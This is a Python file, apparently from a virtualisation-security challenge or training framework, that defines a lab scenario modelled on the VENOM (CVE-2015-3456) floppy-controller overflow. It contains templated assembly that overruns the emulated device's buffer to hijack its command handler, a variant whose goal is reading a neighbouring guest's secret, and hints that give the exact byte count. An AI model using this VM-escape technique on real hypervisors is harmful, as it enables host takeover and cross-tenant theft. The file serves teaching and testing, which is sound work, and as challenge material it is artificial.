"""A device model whose index runs past its buffer: VENOM, CVE-2015-3456."""

from dataclasses import replace

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

DEVICE_OVERRUN = Attack(
    id="device_overrun",
    title=said("the buffer of an imitated device overrun"),
    code="""
    mov rdx, {port_floppy}
    mov rax, 0x8e               ; DRIVE SPECIFICATION, which takes parameters until one has its highest bit set
    out dx, al
    mov rcx, {floppy_bytes}
    add rcx, {floppy_distance}  ; behind the buffer lies the address of the code that carries out commands
    add rcx, 8
    mov rax, 0x41
more:
    out dx, al
    dec rcx
    jnz more
    mov rax, 0x80
    out dx, al                  ; the last parameter
    mov rax, 8
    out dx, al                  ; the next command goes to where I say
""",
    goal="layer_taken",
    placement=Placement(emulated=True),
    family="V2",
    number=1,
    like="CVE-2015-3456 (VENOM)",
    hints=(
        said("Who decides how many parameters a command has?"),
        said("The trace shows the index at which each byte is written, and in whose memory that is."),
        said("Send floppy_bytes + floppy_distance + 8 parameters without the highest bit, one with it, and a command."),
    ),
)
"""Fills the buffer, then what lies behind it, and lets the device model run into it."""

DEVICE_OVERRUN_NEIGHBOUR = replace(
    DEVICE_OVERRUN,
    id="device_overrun_neighbour",
    title=said("a neighbour's secret by way of a device model"),
    goal="secret",
)
"""The same code, but only the secret of a neighbour counts: whether the layer that is taken over reaches it."""
